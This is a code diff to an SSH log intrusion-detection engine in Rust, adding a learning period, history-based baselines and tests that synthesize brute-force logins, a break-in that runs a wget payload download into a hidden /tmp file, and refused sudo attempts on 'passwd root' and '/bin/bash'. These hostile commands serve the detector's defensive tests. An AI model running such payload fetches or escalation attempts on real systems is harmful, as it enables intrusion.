@@ -86,6 +86,9 @@ pub struct Judged {
     pub reasons: Vec<String>,
     /// What the detectors concluded (novelty, campaign, learnt).
     pub judgement: Judgement,
+    /// Judged in the learning period: novelty did not count (as
+    /// `judgement.learning`).
+    pub learning: bool,
 }
 
 /// Analyzer, detectors and the session rules of one log.
@@ -142,6 +145,46 @@ impl Engine {
         self.drain(scorer, out);
         let rest = self.analyzer.finish();
         self.judge_all(rest, scorer, out);
+    }
+
+    /// Learns the device's past from `lines` (a rotated log, the journal's
+    /// past) without judging anything: every session that is not from a
+    /// campaign's address and had no refused privilege escalation goes into
+    /// its user's baseline; the campaign detectors see the attempts, so an
+    /// attacker's successful login is not learnt as a habit. Returns the
+    /// sessions learnt. Call before the first line judged: a device that
+    /// learnt enough history skips the learning period. Sessions still open
+    /// at the end of the history stay open: the lines that follow end them,
+    /// and they are judged then, as any other.
+    pub fn learn_history<'a>(&mut self, lines: impl IntoIterator<Item = &'a str>) -> u64 {
+        let mut learnt = 0;
+        for line in lines {
+            self.feed(line);
+            let observations = self.analyzer.drain_ready();
+            learnt += self.learn_observations(observations);
+        }
+        learnt
+    }
+
+    /// As the judging path: each observation after the attempts up to its end.
+    fn learn_observations(&mut self, mut observations: Vec<Observation>) -> u64 {
+        let attempts = self.analyzer.drain_auth_attempts();
+        if observations.is_empty() {
+            drop(self.detector.observe_attempts(&attempts));
+            return 0;
+        }
+        observations.sort_by_key(|o| o.end.unwrap_or(o.start));
+        let mut next = 0;
+        let mut learnt = 0;
+        for observation in observations {
+            let until = observation.end.unwrap_or(observation.start);
+            let upto = next + attempts[next..].iter().take_while(|a| a.at <= until).count();
+            drop(self.detector.observe_attempts(&attempts[next..upto]));
+            next = upto;
+            learnt += u64::from(self.detector.learn_past(&observation));
+        }
+        drop(self.detector.observe_attempts(&attempts[next..]));
+        learnt
     }
 
     /// The next lines start another input (a rotated file, another log):
@@ -202,6 +245,7 @@ impl Engine {
 
     /// Assess, score, judge (and learn if Normal); reasons merged.
     fn judge(&mut self, observation: Observation, alert: Option<CampaignAlert>, scorer: &mut dyn Score) -> Judged {
+        self.detector.note_time(observation.start);
         let assessment = self.detector.assess(&observation);
         let features = assessment.features;
         let Scored { verdict, reasons: model_reasons } = scorer.score(&observation, &assessment);
@@ -231,6 +275,7 @@ impl Engine {
             prediction: Prediction::from_suspicious(judgement.suspicious),
             confidence,
             reasons,
+            learning: judgement.learning,
             judgement,
         }
     }
@@ -242,5 +287,201 @@ fn format_of_first_line(line: &str) -> LogFormat {
     match LogFormat::detect(line.as_bytes()) {
         LogFormat::Utmp => LogFormat::Auto,
         other => other,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use bfp_common::artifacts::EMBEDDED_AGENT_MODEL;
+    use bfp_common::CompactModel;
+    use bfp_logs::analyze::RecordKind;
+    use bfp_testkit::{alice_history, sshd_session};
+
+    /// The agent's way of scoring: the embedded agent model on the vector.
+    struct Model(CompactModel);
+
+    impl Score for Model {
+        fn score(&mut self, _: &Observation, assessment: &Assessment) -> Scored {
+            Scored { verdict: self.0.score(&assessment.features), reasons: Vec::new() }
+        }
+        fn session_rules(&self) -> SessionRules {
+            SessionRules::AccountChurn
+        }
+    }
+
+    /// A model that always says Normal: every Suspicious comes from the detectors.
+    struct AlwaysNormal;
+
+    impl Score for AlwaysNormal {
+        fn score(&mut self, _: &Observation, _: &Assessment) -> Scored {
+            Scored { verdict: Verdict::flat(false, 0.9, AGENT_FEATURE_COUNT), reasons: Vec::new() }
+        }
+        fn session_rules(&self) -> SessionRules {
+            SessionRules::AccountChurn
+        }
+    }
+
+    fn engine() -> Engine {
+        let analyzer = AnalyzerConfig { reference_time: Some(1_796_083_200), ..AnalyzerConfig::default() };
+        Engine::new(EngineConfig { analyzer, format: Some(LogFormat::Syslog), ..EngineConfig::default() })
+    }
+
+    fn judge_all(engine: &mut Engine, lines: &[String], scorer: &mut dyn Score) -> Vec<Judged> {
+        let mut out = Vec::new();
+        for line in lines {
+            engine.feed(line);
+            engine.drain(scorer, &mut out);
+        }
+        engine.finish(scorer, &mut out);
+        out
+    }
+
+    /// Day one of a fresh install: 40 addresses fail 3 times each (a
+    /// distributed brute force) and one hammers root, then gets in as
+    /// `oracle` and downloads; meanwhile 12 people log in for the first
+    /// time, each from an address of their own, without a typo.
+    fn day_one_under_attack() -> (Vec<String>, Vec<String>) {
+        let mut lines = Vec::new();
+        for minute in 0..40u32 {
+            for k in 0..3 {
+                lines.push(format!(
+                    "Nov 20 08:{minute:02}:{:02} host sshd[{}]: Failed password for invalid user admin{k} from 203.0.113.{} port 40000 ssh2",
+                    10 + k * 10,
+                    5000 + minute * 3 + k,
+                    100 + minute
+                ));
+            }
+        }
+        for s in 0..30u32 {
+            lines.push(format!(
+                "Nov 20 08:{:02}:{:02} host sshd[6000]: Failed password for root from 192.0.2.66 port 41000 ssh2",
+                41 + s / 10,
+                (s % 10) * 5
+            ));
+        }
+        lines.extend(sshd_session(
+            20,
+            (8, 45),
+            6001,
+            "oracle",
+            "192.0.2.66",
+            0,
+            &["/usr/bin/wget http://192.0.2.9/x -O /tmp/.x"],
+        ));
+        let mut newcomers = Vec::new();
+        for u in 0..12u32 {
+            let user = format!("staff{u}");
+            let ip = format!("198.51.{}.{}", 100 + u, 10 + u);
+            lines.extend(sshd_session(20, (8, 2 + 3 * u), 7000 + u, &user, &ip, 0, &["/usr/bin/apt update"]));
+            newcomers.push(user);
+        }
+        lines.sort_by(|a, b| a[..15].cmp(&b[..15]));
+        (lines, newcomers)
+    }
+
+    #[test]
+    fn a_fresh_device_under_brute_force_keeps_its_newcomers_normal_and_flags_the_attackers() {
+        let (lines, newcomers) = day_one_under_attack();
+        let model = CompactModel::from_bytes(EMBEDDED_AGENT_MODEL).unwrap();
+        let mut engine = engine();
+        let judged = judge_all(&mut engine, &lines, &mut Model(model));
+        let sessions: Vec<&Judged> = judged.iter().filter(|j| j.observation.kind == RecordKind::Session).collect();
+        for user in &newcomers {
+            let j = sessions.iter().find(|j| j.observation.user.as_deref() == Some(user)).expect("a session");
+            assert_eq!(j.prediction, Prediction::Normal, "{user}: {:?} {:?}", j.features, j.reasons);
+            assert!(j.learning && j.judgement.learning);
+            assert!(j.confidence >= 0.5 && j.confidence < 1.0, "{}", j.confidence);
+            // The attack around a clean login is not its context.
+            let at = |name: &str| {
+                j.features[bfp_common::schema::AGENT_FEATURE_NAMES.iter().position(|n| *n == name).unwrap()]
+            };
+            assert_eq!(at("device_failing_sources_last_hour"), 0.0);
+        }
+        let intruder = sessions.iter().find(|j| j.observation.user.as_deref() == Some("oracle")).unwrap();
+        assert_eq!(
+            intruder.prediction,
+            Prediction::Suspicious,
+            "{:?} {:?} {:?}",
+            intruder.features,
+            intruder.model,
+            intruder.observation
+        );
+        assert!(intruder.learning);
+        let hammer: std::net::IpAddr = "192.0.2.66".parse().unwrap();
+        assert!(judged
+            .iter()
+            .filter(|j| j.observation.kind != RecordKind::Session && j.observation.source_ip == Some(hammer))
+            .all(|j| j.prediction == Prediction::Suspicious));
+        // The distributed brute force is reported as such.
+        assert!(judged
+            .iter()
+            .any(|j| j.observation.kind == RecordKind::Device && j.prediction == Prediction::Suspicious));
+    }
+
+    #[test]
+    fn the_learning_period_ends_after_its_hours_and_zero_turns_it_off() {
+        let history = alice_history();
+        let mut on = engine();
+        let judged = judge_all(&mut on, &history, &mut AlwaysNormal);
+        // Day 1 to day 2 09:00 is within 24 h of the first login; day 3 is not.
+        assert!(judged.first().unwrap().learning);
+        assert!(!judged.last().unwrap().learning);
+        let mut off = Engine::new(EngineConfig {
+            analyzer: AnalyzerConfig { reference_time: Some(1_796_083_200), ..AnalyzerConfig::default() },
+            format: Some(LogFormat::Syslog),
+            detect: DetectConfig { learning_hours: 0, ..DetectConfig::default() },
+        });
+        assert!(judge_all(&mut off, &history, &mut AlwaysNormal).iter().all(|j| !j.learning));
+    }
+
+    #[test]
+    fn a_refused_sudo_of_passwd_root_is_suspicious_from_the_first_line_with_its_reason() {
+        let mut lines = sshd_session(20, (10, 0), 800, "bob", "198.51.100.7", 0, &[]);
+        lines.insert(
+            2,
+            "Nov 20 10:01:05 host sudo:      bob : user NOT in sudoers ; TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/passwd root"
+                .to_string(),
+        );
+        let mut engine = engine();
+        let judged = judge_all(&mut engine, &lines, &mut AlwaysNormal);
+        let bob = judged.iter().find(|j| j.observation.user.as_deref() == Some("bob")).unwrap();
+        assert_eq!(bob.prediction, Prediction::Suspicious);
+        assert!(bob.learning && bob.judgement.escalated && !bob.judgement.learnt);
+        assert_eq!(bob.reasons[0], "sudo refused, tried `passwd root`");
+        assert_eq!(engine.analyzer().stats().privilege_refusals, 1);
+    }
+
+    #[test]
+    fn learning_history_gives_the_baselines_that_judging_the_same_history_does() {
+        let history = alice_history();
+        let mut learnt = engine();
+        assert_eq!(learnt.learn_history(history.iter().map(String::as_str)), 14);
+        let mut judged = engine();
+        judge_all(&mut judged, &history, &mut AlwaysNormal);
+        assert_eq!(
+            learnt.detector().baselines().to_bytes().unwrap(),
+            judged.detector().baselines().to_bytes().unwrap()
+        );
+        // With that history the device judges novelty at once: no learning period.
+        let mut out = Vec::new();
+        for line in sshd_session(15, (10, 0), 900, "alice", "198.51.100.40", 0, &[]) {
+            learnt.feed(&line);
+        }
+        learnt.finish(&mut AlwaysNormal, &mut out);
+        assert!(out.iter().all(|j| !j.learning) && !out.is_empty());
+    }
+
+    #[test]
+    fn history_with_a_refused_escalation_is_not_learnt() {
+        let mut lines = sshd_session(20, (10, 0), 800, "bob", "198.51.100.7", 0, &["/usr/bin/ls"]);
+        lines.insert(
+            2,
+            "Nov 20 10:01:05 host sudo:      bob : command not allowed ; TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash"
+                .to_string(),
+        );
+        let mut engine = engine();
+        assert_eq!(engine.learn_history(lines.iter().map(String::as_str)), 0);
+        assert_eq!(engine.detector().baselines().sessions_of("bob"), 0);
     }
 }
